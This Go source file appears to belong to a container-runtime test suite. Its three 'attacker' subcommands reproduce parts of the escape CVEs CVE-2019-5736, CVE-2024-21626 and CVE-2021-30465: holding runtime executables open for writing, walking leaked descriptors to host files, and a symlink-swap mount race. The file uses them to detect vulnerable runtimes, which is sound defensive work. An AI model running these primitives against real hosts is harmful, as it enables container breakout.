package main

import (
	"errors"
	"fmt"
	"os"
	"path/filepath"
	"strconv"
	"strings"
	"time"

	"golang.org/x/sys/unix"
)

func init() {
	register("watchexe", watchExe)
	register("fdwalk", fdWalk)
	register("swapdir", swapDir)
}

// watchExe is the watching half of CVE-2019-5736: for SECONDS it looks at
// every process that appears in the container's PID namespace and has an
// executable that is not the container's own, holds its /proc/PID/exe
// open, and keeps trying to reopen it for writing, as the exploit did to
// rewrite the runtime's binary once the runtime had gone. It prints
// "caught PID dev:ino D:I" for each such executable and fails if any
// could be opened for writing, or if the file SENTINEL appeared and no
// executable was caught (the runtime entered and the attack saw nothing).
//
//	attacker watchexe SECONDS SENTINEL
func watchExe(args []string) error {
	if len(args) != 2 {
		return errors.New("usage: watchexe SECONDS SENTINEL")
	}
	secs, err := strconv.Atoi(args[0])
	if err != nil {
		return err
	}
	own := map[string]bool{}
	for _, p := range []string{"/proc/self/exe", "/bin/busybox"} {
		if id, err := devIno(p); err == nil {
			own[id] = true
		}
	}
	held := map[int]*os.File{}
	caught := 0
	deadline := time.Now().Add(time.Duration(secs) * time.Second)
	fmt.Println("watching")
	for time.Now().Before(deadline) {
		ents, _ := os.ReadDir("/proc")
		for _, e := range ents {
			pid, err := strconv.Atoi(e.Name())
			if err != nil || held[pid] != nil || pid == os.Getpid() {
				continue
			}
			f, err := os.Open(fmt.Sprintf("/proc/%d/exe", pid))
			if err != nil {
				continue
			}
			id, err := fdDevIno(f)
			if err != nil || own[id] {
				f.Close()
				continue
			}
			held[pid] = f
			caught++
			fmt.Printf("caught %d dev:ino %s\n", pid, id)
		}
		for pid, f := range held {
			w, err := os.OpenFile(fmt.Sprintf("/proc/self/fd/%d", f.Fd()), os.O_WRONLY, 0)
			if err == nil {
				w.Close()
				return fmt.Errorf("the executable of pid %d is writable", pid)
			}
		}
		time.Sleep(time.Millisecond)
	}
	if _, err := os.Stat(args[1]); err == nil && caught == 0 {
		return errors.New("no foreign executable was caught: the attack was not tried")
	}
	return nil
}

func devIno(p string) (string, error) {
	var st unix.Stat_t
	if err := unix.Stat(p, &st); err != nil {
		return "", err
	}
	return fmt.Sprintf("%d:%d", st.Dev, st.Ino), nil
}

func fdDevIno(f *os.File) (string, error) {
	var st unix.Stat_t
	if err := unix.Fstat(int(f.Fd()), &st); err != nil {
		return "", err
	}
	return fmt.Sprintf("%d:%d", st.Dev, st.Ino), nil
}

// fdWalk is CVE-2024-21626 from inside: it walks ".." from the working
// directory and from every open descriptor of the process and fails if
// MARKER (a node path) can be read from any of them.
//
//	attacker fdwalk /ABSOLUTE/MARKER
func fdWalk(args []string) error {
	if len(args) != 1 || !filepath.IsAbs(args[0]) {
		return errors.New("usage: fdwalk /ABSOLUTE/MARKER")
	}
	rel := strings.Repeat("../", 32) + args[0][1:]
	cwd, _ := os.Getwd()
	fmt.Printf("cwd %s\n", cwd)
	if data, err := os.ReadFile(rel); err == nil {
		return fmt.Errorf("read the node's marker from the working directory: %q", data)
	}
	fds, err := os.ReadDir("/proc/self/fd")
	if err != nil {
		return err
	}
	for _, e := range fds {
		p := "/proc/self/fd/" + e.Name() + "/" + rel
		if data, err := os.ReadFile(p); err == nil {
			return fmt.Errorf("read the node's marker through fd %s: %q", e.Name(), data)
		}
	}
	return nil
}

// swapDir is the racing half of CVE-2021-30465: for SECONDS it swaps DIR
// between a directory and a symlink to "/" as fast as it can, so that a
// runtime resolving DIR as a mount target races onto the symlink.
//
//	attacker swapdir SECONDS DIR
func swapDir(args []string) error {
	if len(args) != 2 {
		return errors.New("usage: swapdir SECONDS DIR")
	}
	secs, err := strconv.Atoi(args[0])
	if err != nil {
		return err
	}
	dir, alt := args[1], args[1]+".alt"
	if err := os.MkdirAll(dir, 0o755); err != nil {
		return err
	}
	_ = os.Remove(alt)
	if err := os.Symlink("/", alt); err != nil {
		return err
	}
	fmt.Println("racing")
	swaps := 0
	deadline := time.Now().Add(time.Duration(secs) * time.Second)
	for time.Now().Before(deadline) {
		// renameat2(RENAME_EXCHANGE) swaps the two names atomically: at
		// every instant DIR is either the directory or the symlink.
		if err := unix.Renameat2(unix.AT_FDCWD, dir, unix.AT_FDCWD, alt, unix.RENAME_EXCHANGE); err != nil {
			return err
		}
		swaps++
	}
	fmt.Printf("swapped %d times\n", swaps)
	return nil
}
